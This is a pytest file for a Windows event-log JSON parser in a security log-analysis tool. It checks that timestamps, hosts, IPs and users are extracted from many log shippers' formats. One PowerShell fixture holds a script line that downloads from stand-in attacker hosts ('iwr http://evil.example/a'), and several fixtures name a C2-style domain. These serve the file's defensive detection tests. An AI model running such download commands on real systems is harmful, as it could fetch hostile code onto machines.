"""Windows events as JSON lines: one shape or trap a test, and the samples if present."""

from __future__ import annotations

import json
from datetime import UTC, datetime

import pytest
from case_reader import records
from hypothesis import given
from hypothesis import strategies as st

from lamsach.errors import LineError
from lamsach.logs.base import FileContext
from lamsach.logs.formats.windows.windows_event_json import WindowsEventJson
from lamsach.model import Action, Event

SYSMON = {"SourceName": "Microsoft-Windows-Sysmon", "Hostname": "PC-MINH"}
CONNECTION = {"EventID": 3, **SYSMON, "SourceIp": "10.20.0.31", "DestinationIp": "203.0.113.77"}


def parse(record: dict) -> Event:
    return WindowsEventJson(FileContext()).parse(json.dumps(record), 1)


@pytest.mark.parametrize(
    "record, time",
    [
        # Winlogbeat: the shipper's time is the event's
        ({"@timestamp": "2026-06-10T08:00:02Z",
            "winlog": {"event_id": 3, "provider_name": "Microsoft-Windows-Sysmon",
          "event_data": {"UtcTime": "2026-06-10 08:00:01.000"}}}, "08:00:02"),
        # NXLog: it is the log server's
        ({"EventID": 3, **SYSMON, "@timestamp": "2026-06-10T08:00:05Z", "EventTime": "2026-06-10 12:00:01",
            "UtcTime": "2026-06-10 08:00:01.000"},
         "08:00:01"),
        ({"EventID": 3, **SYSMON, "TimeCreated": "2026-06-10T09:00:05Z",
            "UtcTime": "2026-06-10 08:00:01.000"}, "08:00:01"),
        ({"EventID": 7036, "SourceName": "Service", "Channel": "System", "EventTime": "2026-06-10 15:00:01"},
         "08:00:01"),
        ({"EventID": 7036, "SourceName": "Service", "Channel": "System",
            "EventTime": "2026-06-10T15:00:01+07:00"}, "08:00:01"),
        ({"data": {
            "win": {"system": {"eventID": "3", "providerName": "Microsoft-Windows-Sysmon",
                "systemTime": "2026-06-10T08:00:01.5Z"},
          "eventdata": {"utcTime": "2026-06-10 07:00:00.000"}}}, "timestamp": "2026-06-10T08:00:09.000+0000"},
          "08:00:01.500000"),
    ],
)  # fmt: skip
def test_the_time_of_the_event_counts(record, time):
    assert parse(record).time.isoformat() == f"2026-06-10T{time}+00:00"


@pytest.mark.parametrize(
    "record, name",
    [
        ({**CONNECTION, "host": "collector"}, "PC-MINH"),
        ({"winlog": {"event_id": 3, "computer_name": "PC-MINH.unit.example",
            "event_data": {"SourceIp": "10.20.0.31"}}, "host": {"name": "pc-minh"}},
         "pc-minh"),
        ({"winlog": {"event_id": 3, "computer_name": "PC-MINH.unit.example",
            "event_data": {"SourceIp": "10.20.0.31"}}, "host": {"name": "collector"}},
         "PC-MINH.unit.example"),
    ],
)  # fmt: skip
def test_the_machine_is_never_the_collector(record, name):
    assert parse(record).device_name == name


def test_a_list_of_one_event_is_read_and_one_of_several_refused():
    assert parse({"records": [CONNECTION]}).source_ip == "10.20.0.31"
    with pytest.raises(LineError) as refused:
        parse({"records": [CONNECTION, CONNECTION]})
    assert refused.value.what == "One line holds several Windows events."


def test_the_event_as_json_within_a_text():
    event = parse({"message": json.dumps(CONNECTION), "host": "collector"})
    assert (event.source_ip, event.device_name) == ("10.20.0.31", "PC-MINH")
    assert WindowsEventJson.recognises(json.dumps({"message": json.dumps(CONNECTION)}))


def test_data_as_a_list_of_names_and_values():
    data = [{"@Name": "SourceIp", "#text": "10.20.0.31"}, {"@Name": "DestinationIp", "#text": "203.0.113.77"}]
    event = parse(
        {"Event": {"System": {"EventID": "3", "Provider": {"@Name": "Microsoft-Windows-Sysmon"},
            "Computer": "PC-MINH"},
                             "EventData": {"Data": data}}})  # fmt: skip
    assert (event.source_ip, event.destination_ip, event.device_name) == (
        "10.20.0.31",
        "203.0.113.77",
        "PC-MINH",
    )


def test_a_script_gives_its_first_url_and_mentions_the_others():
    event = parse({"EventID": 4104, "SourceName": "Microsoft-Windows-PowerShell", "Hostname": "PC-MINH",
                   "ScriptBlockText": ("iwr http://evil.example/a; iwr https://198.51.100.9/b; "
                                       "ping bot-c2.xyz")})  # fmt: skip
    assert event.url == "http://evil.example/a"
    assert event.mentioned == ("https://198.51.100.9/b", "bot-c2.xyz")


@pytest.mark.parametrize(
    "record, wanted",
    [
        # Azure Sentinel's tables
        ({"TimeGenerated": "2026-06-10T08:00:00.1Z", "Source": "Microsoft-Windows-Sysmon",
            "EventLog": "Microsoft-Windows-Sysmon/Operational",
          "Computer": "PC-MINH", "EventID": 3,
          "EventData": '<DataItem type="System.XmlData" time="x"><EventData xmlns="y">'
          '<Data Name="SourceIp">10.20.0.31</Data><Data Name="DestinationIp">203.0.113.7</Data></EventData>'
          '</DataItem>'},
         {"source_ip": "10.20.0.31", "destination_ip": "203.0.113.7", "device_name": "PC-MINH"}),
        ({"Computer": "SRV", "EventSourceName": "Microsoft-Windows-Security-Auditing", "Channel": "Security",
            "EventID": 4625,
          "Account": "UNIT\\minh", "TargetUserName": "minh", "IpAddress": "10.20.0.31",
          "WorkstationName": "PC-MINH"},
         {"device_ip": "10.20.0.31", "device_name": "PC-MINH", "observer": "SRV", "user": "minh",
          "action": Action.BLOCKED}),
        # Winlogbeat 6
        ({"@timestamp": "2026-06-10T08:00:00Z", "beat": {"name": "PC"}, "computer_name": "PC-MINH",
            "event_id": 3, "source_name": "Microsoft-Windows-Sysmon",
          "event_data": {"SourceIp": "10.20.0.31", "DestinationIp": "203.0.113.7", "Initiated": "true"}},
         {"device_ip": "10.20.0.31", "destination_ip": "203.0.113.7", "device_name": "PC-MINH"}),
        # Fluent Bit
        ({"ProviderName": "Microsoft-Windows-Security-Auditing", "EventID": 4624,
            "TimeCreated": "2026-06-10 15:00:00 +0700", "Channel": "Security",
          "Computer": "SRV",
          "Message": ("New Logon:\r\n\tAccount Name:\t\tminh\r\nNetwork Information:\r\n"
                      "\tSource Network Address:\t10.20.0.31\r\n"),
          "StringInserts": ["S-1-0-0"]},
         {"device_ip": "10.20.0.31", "user": "minh", "time": datetime(2026, 6, 10, 8, tzinfo=UTC)}),
        # Kibana: values are lists
        ({"fields": {"@timestamp": ["2026-06-10T08:00:00Z"], "winlog.event_id": ["22"],
            "winlog.computer_name": ["PC-MINH"],
          "winlog.provider_name": ["Microsoft-Windows-Sysmon"],
          "winlog.event_data.QueryName": ["bot-c2.xyz"]}},
         {"domain": "bot-c2.xyz", "device_name": "PC-MINH", "time": datetime(2026, 6, 10, 8, tzinfo=UTC)}),
        ({"_index": "w",
            "_source": {"winlog": {"event_id": 22, "computer_name": "PC-MINH",
                "event_data": {"QueryName": "bot-c2.xyz"}}}},
         {"domain": "bot-c2.xyz", "device_name": "PC-MINH"}),
        # rendered sentences
        ({"EventID": 18456, "SourceName": "MSSQLSERVER", "Channel": "Application", "Hostname": "SQL",
          "Message": "Login failed for user 'sa'. [CLIENT: 203.0.113.7]"},
         {"source_ip": "203.0.113.7", "user": "sa", "action": Action.BLOCKED, "device_name": "SQL",
          "inbound": True}),
        ({"EventID": 4, "SourceName": "OpenSSH", "Channel": "OpenSSH/Operational", "Hostname": "SRV",
          "payload": "Accepted password for minh from 10.20.0.31 port 50100 ssh2"},
         {"source_ip": "10.20.0.31", "source_port": 50100, "user": "minh", "action": Action.ALLOWED,
          "device_ip": "10.20.0.31"}),
        ({"EventID": 411, "SourceName": "AD FS Auditing", "Channel": "Security", "Hostname": "ADFS",
          "Message": "Token validation failed.\r\nClient IP:\r\n203.0.113.7,10.0.0.1\r\nError message:"},
         {"source_ip": "203.0.113.7", "device_name": "ADFS"}),
        # an unknown log: mentioned values, never attributed
        ({"EventID": 1000, "SourceName": "Invented", "Channel": "Application", "Hostname": "PC-MINH",
          "Message": "Could not reach https://evil.example/x (203.0.113.9)"},
         {"mentioned": ("https://evil.example/x", "203.0.113.9"), "inbound": True, "device_name": "PC-MINH"}),
    ],
)  # fmt: skip
def test_every_programs_shape_yields_the_same_fields(record, wanted):
    assert WindowsEventJson.recognises(json.dumps(record))
    event = parse(record)
    assert {name: getattr(event, name) for name in wanted} == wanted


@pytest.mark.parametrize(
    "line",
    [
        '{"event_type":"dns","flow_id":1,"src_ip":"10.20.0.31","dns":{"rrname":"sysmon.example"}}',
        '{"src_ip":"10.20.0.31","dst_ip":"203.0.113.77","note":"Microsoft-Windows-Sysmon"}',
        '{"event":{"code":"4"},"source":{"ip":"10.20.0.31"}}',
        '{"EventID":3,"note":"a product of ours"}',
        '{"EventID":3,"Channel":"Microsoft-Windows-Sysmon/Operational"',
        "EventID=3 Channel=Security",
        "",
    ],
)
def test_other_lines_are_not_recognised(line):
    assert not WindowsEventJson.recognises(line)


@pytest.mark.parametrize(
    "line", ["{}", '{"EventID":"x"}', "no object", '{"EventID":[[3]]}', '{"message":"{\\"a\\":1}"}']
)
def test_text_without_an_event_is_a_line_error(line):
    with pytest.raises(LineError):
        WindowsEventJson(FileContext()).parse(line, 1)


_VALUES = st.recursive(
    st.none() | st.booleans() | st.floats() | st.integers() | st.text(max_size=10)
    | st.sampled_from(["10.20.0.31", "<Event><System/></Event>", "<Event", "203.0.113.7:80", "\\\\10.20.0.31",
        "-", "%%14592", "0x0"]),
    lambda inner: st.lists(inner, max_size=3)
    | st.dictionaries(
        st.sampled_from(["System", "EventData", "Data", "event_data", "win", "#text", "IpAddress", "Value",
            "name", "event_id", "Name"]),
        inner, max_size=4,
    ),
    max_leaves=8,
)  # fmt: skip
_KEYS = st.sampled_from(
    ["EventID", "Event", "winlog", "data", "message", "Message", "RawXml", "Computer", "UtcTime", "EventTime",
     "IpAddress", "SourceIp",
     "SourcePort", "DestinationIp", "Initiated", "QueryName", "QueryResults", "Hashes", "TargetUserName",
     "Path", "dns", "host", "SourceName", "records", "PacketData", "CommandLine", "url", "Contents"]
)  # fmt: skip


@given(
    st.dictionaries(_KEYS, _VALUES, max_size=8),
    st.sampled_from([1, 3, 15, 21, 22, 59, 256, 257, 1116, 3008, 4104, 4624, 5156, 6272]),
    st.sampled_from(["Sysmon", "Security-Auditing", "DNSServer", "DNS-Client", "PowerShell",
        "Windows Defender", "TerminalServices-X", "DHCP-Server"]),
)  # fmt: skip
def test_no_record_raises_anything_but_line_errors(record, number, provider):
    line = json.dumps({"EventID": number, "ProviderName": f"Microsoft-Windows-{provider}", **record})
    list(records(WindowsEventJson, [line, line[:-2]]))
